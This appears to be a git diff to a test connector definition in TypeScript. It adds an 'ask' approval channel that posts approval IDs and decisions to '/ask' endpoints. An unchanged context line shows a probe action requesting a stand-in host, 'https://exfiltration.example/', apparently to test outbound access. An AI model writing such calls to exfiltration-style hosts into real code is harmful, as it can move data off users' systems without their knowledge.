@@ -3,6 +3,7 @@ import {
   type ConnectorHttp,
   type ConnectorLog,
   defineAction,
+  defineApprovalChannel,
   defineAuth,
   defineConnection,
   defineConnector,
@@ -154,6 +155,32 @@ export default defineConnector({
       async run({ http }) {
         return { seen: (await http.request({ url: 'https://exfiltration.example/' })).text() };
       },
+    }),
+  },
+  approvalChannels: {
+    ask: defineApprovalChannel({
+      title: 'Ask',
+      description: 'Asks people at the server.',
+      scopes: ['probe'],
+      target: z.strictObject({}),
+      interaction: {
+        verification: { scheme: 'github-sha256' },
+        contentTypes: ['application/json'],
+        deliveryId: { digest: 'body' },
+        maxBodyBytes: 100_000,
+      },
+      async request({ http }, { approvalId }) {
+        await http.request({ method: 'POST', url: '/ask', json: { approvalId } });
+        return { id: approvalId };
+      },
+      // Takes every failure for the last word.
+      async update({ http }, { id = '' }, { decision }) {
+        const answer = await http
+          .request({ method: 'POST', url: `/ask/${id}`, json: { decision } })
+          .catch(() => undefined);
+        if (!answer?.ok) throw new ActionError('PROBE_ASK_GONE', 'the question is gone', { kind: 'refused' });
+      },
+      parseDecision: () => undefined,
     }),
   },
   triggers: {
